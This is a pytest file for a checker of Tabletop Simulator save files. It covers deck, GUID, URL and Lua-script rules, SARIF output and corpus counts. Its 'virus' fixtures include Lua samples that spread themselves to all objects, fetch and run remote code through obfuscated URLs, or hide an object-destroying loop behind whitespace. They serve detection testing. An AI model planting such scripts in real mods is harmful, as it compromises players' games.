"""Each rule finds what it is for, and nothing in a save that is in order."""

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from exporters.checks.finding import Finding
from exporters.checks.run import RULES, UnknownRule, check, fix, is_fixable, severity
from exporters.checks.sarif import place, places, sarif, where
from exporters.compare.diff import compare
from exporters.jsontext.positions import lines_of
from exporters.mods.dbd.mod import build_mod
from exporters.savefile import Json, Save, dump, objects, parse, read
from rules.dbd.board import training_ground
from tests.exporters.saves import small_save
from tts_bridge.games.dbd.wording import NAMES as DBD_NAMES

BAG, DECK = "ObjectStates[1]", "ObjectStates[1].ContainedObjects[0]"


def spoilt(edit: Any) -> list[Finding]:
    save = small_save()
    data = copy.deepcopy(save.data)
    edit(data, data["ObjectStates"])
    text = dump(Save(data, save.source)).replace('"BARE"', "Infinity")
    return check(parse(text))


def deck(table: list[Json]) -> Json:
    found: Json = table[1]["ContainedObjects"][0]
    return found


def infinite(table: list[Json]) -> None:
    table[1]["Name"] = "Infinite_Bag"


def joint(table: list[Json]) -> None:
    table[0]["JointFixed"] = {"ConnectedBodyGUID": "dddddd", "BreakForce": "Infinity"}


def model(table: list[Json]) -> None:
    table[0] |= {"Name": "Custom_Model_Bag", "CustomMesh": {"TypeIndex": 0}}


def face(table: list[Json]) -> None:
    other = {"12": {**deck(table)["CustomDeck"]["12"], "FaceURL": "https://example.org/other"}}
    deck(table)["ContainedObjects"][1]["CustomDeck"] = other


def loose_card(table: list[Json]) -> Json:
    card: Json = copy.deepcopy(deck(table)["ContainedObjects"][0])
    table.append(card | {"GUID": "ca4d01"})
    return table[-1]


def image(url: str) -> Any:
    return lambda data, table: table[2]["CustomImage"].update(ImageURL=url)


def script(text: str) -> Any:
    return lambda data, table: table[0].update(LuaScript=text)


SPOILT: list[tuple[str, str, str, Any]] = [
    ("format.schema", "ObjectStates[0]", "Nickname", lambda d, t: t[0].update(Nickname=3)),
    ("format.schema", DECK, "DeckIDs[1]", lambda d, t: deck(t)["DeckIDs"].__setitem__(1, "x")),
    ("guid.twice", "ObjectStates[0]", "GUID", lambda d, t: t[1].update(GUID="a00001")),
    ("guid.form", "ObjectStates[0]", "GUID", lambda d, t: t[0].update(GUID="My Pawn")),
    ("states.gap", "ObjectStates[2]", "States", lambda d, t: t[2]["States"].pop("2")),
    ("bag.infinite", BAG, "ContainedObjects", lambda d, t: infinite(t)),
    ("tag.unlisted", "ObjectStates[0]", "Tags", lambda d, t: t[0]["Tags"].append("New")),
    ("joint.lost", "ObjectStates[0]", "JointFixed.ConnectedBodyGUID", lambda d, t: joint(t)),
    ("model.kind", "ObjectStates[0]", "CustomMesh.TypeIndex", lambda d, t: model(t)),
    ("number.bare", "ObjectStates[0]", "X.Y", lambda d, t: t[0].update(X={"Y": "BARE"})),
    ("number.lost", "ObjectStates[0]", "Transform.posY",
     lambda d, t: t[0]["Transform"].update(posY="NaN")),
    ("deck.ids", DECK, "DeckIDs", lambda d, t: deck(t)["DeckIDs"].reverse()),
    ("deck.ids", DECK, "DeckIDs", lambda d, t: deck(t)["DeckIDs"].pop()),
    ("deck.content", DECK, "ContainedObjects",
     lambda d, t: deck(t)["ContainedObjects"].append({"Name": "BlockSquare"})),
    ("deck.small", DECK, "ContainedObjects",
     lambda d, t: deck(t).update(DeckIDs=[1200], ContainedObjects=deck(t)["ContainedObjects"][:1])),
    ("deck.sheet-missing", DECK, "CustomDeck",
     lambda d, t: deck(t).update(CustomDeck={"13": deck(t)["CustomDeck"]["12"]})),
    ("deck.sheet-unused", DECK, "CustomDeck.13",
     lambda d, t: deck(t)["CustomDeck"].update({"13": deck(t)["CustomDeck"]["12"]})),
    ("deck.sheet-differs", f"{DECK}.ContainedObjects[1]", "CustomDeck.12", lambda d, t: face(t)),
    ("card.sheet-missing", "ObjectStates[4]", "CardID",
     lambda d, t: loose_card(t).update(CardID=1301)),
    ("card.index", "ObjectStates[4]", "CardID",
     lambda d, t: loose_card(t)["CustomDeck"]["12"].update(NumWidth=1, NumHeight=0 + 1) or
     t[-1].update(CardID=1205)),
    ("card.sheet-size", "ObjectStates[4]", "CustomDeck.12",
     lambda d, t: loose_card(t)["CustomDeck"]["12"].update(NumWidth=11)),
    ("url.local", "ObjectStates[2]", "CustomImage.ImageURL", image("file:///F:\\PNP\\map.jpg")),
    ("url.local", "ObjectStates[2]", "CustomImage.ImageURL", image("C:/Users/me/map.jpg")),
    ("url.schemeless", "ObjectStates[2]", "CustomImage.ImageURL", image("www.example.org/a.jpg")),
    ("url.dead-host", "ObjectStates[2]", "CustomImage.ImageURL",
     image("http://cloud-3.steamusercontent.com/ugc/1/AB/")),
    ("lua.syntax", "ObjectStates[0]", "LuaScript", script("x = = 1")),
    ("lua.moonsharp", "ObjectStates[0]", "LuaScript", script("if 1 != 2 then print(1) end")),
    ("lua.moonsharp", "ObjectStates[0]", "LuaScript", script("f = |x| x + 1")),
    ("lua.unknown", "ObjectStates[0]", "LuaScript", script("Wait.frame(function() end)")),
    ("lua.unknown", "ObjectStates[0]", "LuaScript", script("self.setPostion({0, 0, 0})")),
    ("lua.undefined", "ObjectStates[0]", "LuaScript", script("getObjectFromGuid('a')")),
    ("lua.handler", "ObjectStates[0]", "LuaScript", script("function onPickup(c) end")),
    ("lua.handler-place", "ObjectStates[0]", "LuaScript",
     script("function tryObjectEnterContainer(a, b) return true end")),
    ("lua.handler-place", "", "LuaScript",
     lambda d, t: d.update(LuaScript="function onDrop(c) end")),
    ("virus.spreads", "ObjectStates[0]", "LuaScript",
     script("for _, o in ipairs(getAllObjects()) do o.setLuaScript(self.getLuaScript()) end")),
    ("virus.spreads", "ObjectStates[0]", "LuaScript",
     script("local me = self.getLuaScript()\nfunction onObjectSpawn(o)\n"
            "  o.setLuaScript(o.getLuaScript() .. me)\nend")),
    ("virus.loader", "ObjectStates[0]", "LuaScript",
     script("print(1)" + " " * 300 + "WebRequest.get('http://example.org', function(r) "
            "self.setLuaScript(r.text) end)")),
    ("virus.loader", "ObjectStates[0]", "LuaScript",
     script("WebRequest.get(string.char(104,116,116,112,58,47,47,97,46,98), function(r) "
            "Global.executeScript(r.text) end)")),
    ("virus.loader", "ObjectStates[0]", "LuaScript",
     script(r"WebRequest.get('\104\116\116\112\58\47\47\97\46\98', function(r) "
            "self.script_code = r.text self.reload() end)")),
    ("virus.hidden", "ObjectStates[0]", "LuaScript",
     script("print(1)" + "\n" * 200 + "for _, o in ipairs(getAllObjects()) do o.destruct() end")),
]  # fmt: skip


@pytest.mark.parametrize(("code", "path", "field", "edit"), SPOILT)
def test_a_rule_finds_what_it_is_for(code: str, path: str, field: str, edit: Any) -> None:
    found = [each for each in spoilt(edit) if each.code == code]
    assert [(each.path, each.field) for each in found][:1] == [(path, field)]
    assert found[0].text
    assert severity(found[0]) == RULES[code].severity


def test_every_rule_has_an_example() -> None:
    assert {code for code, *_ in SPOILT} == set(RULES)


def test_a_save_in_order_has_no_findings() -> None:
    assert check(small_save()) == []


def test_the_ready_made_mod_has_no_findings() -> None:
    survivors = ("jake-park", "meg-thomas", "dwight-fairfield", "feng-min")
    mod = build_mod(training_ground(), names=DBD_NAMES, survivors=survivors, killer="the-nurse")
    assert [where(each) + each.text for each in check(mod) if severity(each) != "info"] == []


FINE = [
    "function onLoad(s) end function onSave() return '' end function onload() end",
    "function onDrop(c) end function onObjectDrop(c, o) end function tryObjectEnter(o) end",
    "function onPickupDone() end onPickupDone()",
    "function onPickup() end self.createButton({click_function = 'onPickup'})",
    "Wait = {frame = function() end} Wait.frame()",
    "function JSON.parse(s) return JSON.decode(s) end JSON.parse('1')",
    "local t = {getPostion = function() end} t.getPostion()",
    "local function buildDeck() end buildDeck()",
    "_G['later'] = print later()",
    "Player.Red.broadcast('hi') Color.fromString('Red') Vector(1, 2, 3):scale(2)",
    "local Time = {now = os.time} print(Time.now())",
    "goto done; do end ::done:: print(#'x')",
    # A tool that hands out scripts, a mod that updates itself in the open: no viruses.
    "for _, o in ipairs(getAllObjects()) do o.setLuaScript(getObjectFromGUID('a').getLuaScript())"
    " end",
    "WebRequest.get('https://example.org/new.lua', function(r) self.setLuaScript(r.text) end)",
    "self.script_code = self.script_code:gsub('a', 'b')",
    "x = {" + " " * 300 + "1, 2}",
    "-- a comment" + " " * 300 + "WebRequest.get",
    "print(string.char(1, 2, 3, 4, 5, 6, 7, 8, 9))",
    "local url = 'http://example.org' WebRequest.get(url, function(r) log(r.text:reverse()) end)",
]


@pytest.mark.parametrize("text", FINE)
def test_no_false_alarm_for_a_script_that_is_fine(text: str) -> None:
    assert [(each.code, each.text) for each in spoilt(script(text))] == []


@pytest.mark.parametrize(
    "url",
    ["", "https://example.org/a{Unique}", "<The Game>board.png", "board.png",
     "{en}https://example.org/e{fr}https://example.org/f", "{verifycache}http://example.org/"],
)  # fmt: skip
def test_no_false_alarm_for_an_address_the_game_takes(url: str) -> None:
    assert spoilt(image(url)) == []


def test_old_and_odd_saves_have_no_false_alarms() -> None:
    old = parse('{"ObjectStates": [{"Name": "Deck", "DeckIDs": [100, 101], "Transform": {}}]}')
    assert check(old) == []  # of 2015: decks contained nothing then
    playing = {"Name": "Deck", "DeckIDs": [1, 2], "ContainedObjects": [
        {"Name": "Card", "CardID": 1}, {"Name": "Card", "CardID": 2}]}  # fmt: skip
    assert check(parse(json.dumps({"ObjectStates": [playing]}))) == []


def test_a_script_that_does_not_compile_says_where() -> None:
    (found,) = spoilt(script("print('one')\r\nlocal t = {\r\n  1,\r\n  2)\r\n}"))
    assert (found.line, found.column) == (4, 4)
    assert "near ')'" in found.text


def test_a_script_on_many_objects_is_one_finding() -> None:
    def edit(data: Json, table: list[Json]) -> None:
        for each in table:
            each["LuaScript"] = "x = = 1"

    (found,) = spoilt(edit)
    assert "on 4 objects" in found.text


def test_what_is_safe_is_mended_and_the_rest_stays() -> None:
    save = small_save()
    data = copy.deepcopy(save.data)
    table = data["ObjectStates"]
    deck(table)["DeckIDs"].reverse()
    deck(table)["CustomDeck"]["13"] = deck(table)["CustomDeck"]["12"]
    table[0]["Tags"].append("New")
    table[0]["LuaScript"] = "u = 'http://cloud-3.steamusercontent.com/ugc/1/AB/' x = = 1"
    table[3]["JointFixed"] = {"BreakForce": float("inf")}
    broken = parse(dump(Save(data)).replace('"Infinity"', "Infinity"))
    found = check(broken)
    assert {each.code for each in found if is_fixable(each)} == {
        "deck.ids", "deck.sheet-unused", "tag.unlisted", "url.dead-host", "number.bare",
    }  # fmt: skip
    new, done = fix(broken, found)
    assert [each.code for each in check(parse(dump(new)))] == ["lua.syntax"]
    assert len(done) == 5
    assert broken.data["ObjectStates"][0]["Tags"] == ["Pawn", "Red", "New"]
    changed = {each.field for each in compare(broken, new)}
    assert changed == {
        "ComponentTags.labels[3]", "LuaScript", "DeckIDs[0]", "CustomDeck.13", "DeckIDs",
    } - {"DeckIDs[0]"}  # fmt: skip


def test_rules_can_be_left_out_and_must_exist() -> None:
    save = small_save(LuaScript="x = = 1")
    assert check(save, ("lua.syntax",)) == []
    with pytest.raises(UnknownRule, match=r"lua\.syntx"):
        check(save, ("lua.syntx",))


def test_sarif_has_rule_level_message_and_line() -> None:
    save = small_save(LuaScript="\n x = ) 1", Note=3)
    found = check(save)
    lines = lines_of(save.source, places(found))
    log = sarif({"a b.json": found}, {"a b.json": lines}, "1.0")
    (run,) = log["runs"]
    rules = run["tool"]["driver"]["rules"]
    assert [rule["id"] for rule in rules] == list(RULES)
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        where = result["locations"][0]["physicalLocation"]
        assert where["artifactLocation"] == {"uri": "a%20b.json"}
        field = '"LuaScript"' if result["ruleId"] == "lua.syntax" else '"Note"'
        assert field in save.source.split("\n")[where["region"]["startLine"] - 1]
    assert "LuaScript:2:6: unexpected symbol near ')'" in json.dumps(log)


def test_every_field_of_a_save_is_found_on_its_line() -> None:
    save = small_save()
    paths = [f"{path}.{key}" for path, data in objects(save) for key in data]
    found = lines_of(save.source, [*paths, "Nothing", "ObjectStates[99].GUID"])
    assert sorted(found) == sorted(paths)
    rows = save.source.split("\n")
    for path, number in found.items():
        assert f'"{path.rpartition(".")[2]}"' in rows[number - 1]


def test_every_finding_in_a_real_save_is_one_of_those_that_were_looked_at(
    corpus_file: Path,
) -> None:
    """Errors and warnings of the whole corpus; each was looked at and is right."""
    save = read(corpus_file)
    found = check(save)
    counts: dict[str, int] = {}
    for each in found:
        if severity(each) != "info":
            counts[each.code] = counts.get(each.code, 0) + 1
    assert counts == SEEN.get(corpus_file.stem, {}) | (
        {"url.dead-host": 1} if "cloud-3.steamusercontent" in save.source else {}
    )
    lines = lines_of(save.source, places(found))
    assert all(place(each) in lines or each.path in lines or not each.path for each in found)


SEEN: dict[str, dict[str, int]] = {
    "booster_generator_v11.2.1": {"url.local": 10},
    "brass_birmingham_v13.1.1": {"lua.undefined": 2},
    "canasta_v12.3.5": {"lua.undefined": 1},
    "captain_is_dead_v9.7": {"url.local": 60},
    "discworld_ankh_v12.2": {"url.local": 16, "lua.syntax": 2, "bag.infinite": 2},
    "gloomhaven_enhanced_globals_v13.1.1": {"lua.undefined": 2},
    "sced_built_v13.3": {"deck.ids": 2, "lua.undefined": 1},
    "spirit_island_v13.1.1": {"deck.ids": 1, "url.schemeless": 9},
    "swlegion_base_v13.0.5": {"format.schema": 1},
    "tools_bag_savedobject": {"url.local": 6, "lua.syntax": 2, "bag.infinite": 1},
    "tstl_template_v13.2.2": {"bag.infinite": 1},
    "ttsmm_bundled_lua": {"format.schema": 1},
}
